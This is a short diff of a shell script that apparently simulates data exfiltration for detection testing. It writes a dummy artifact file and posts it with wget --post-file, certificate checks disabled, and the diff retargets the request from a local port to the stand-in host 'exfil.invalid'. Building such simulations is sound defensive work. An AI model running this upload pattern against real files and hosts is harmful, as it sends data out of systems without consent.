@@ -6,7 +6,7 @@ W="${2:?usage: $0 run|cleanup DIR}"
 cd "$W" || exit 1
 run() {
     echo "atomic artifact" > "$W/artifact"
-    wget --post-file="$W/artifact" --timeout=3 --tries=1 --no-check-certificate https://127.0.0.1:9/ --delete-after -q
+    wget --post-file="$W/artifact" --timeout=3 --tries=1 --no-check-certificate https://exfil.invalid/ --delete-after -q
 }
 cleanup() {
     :
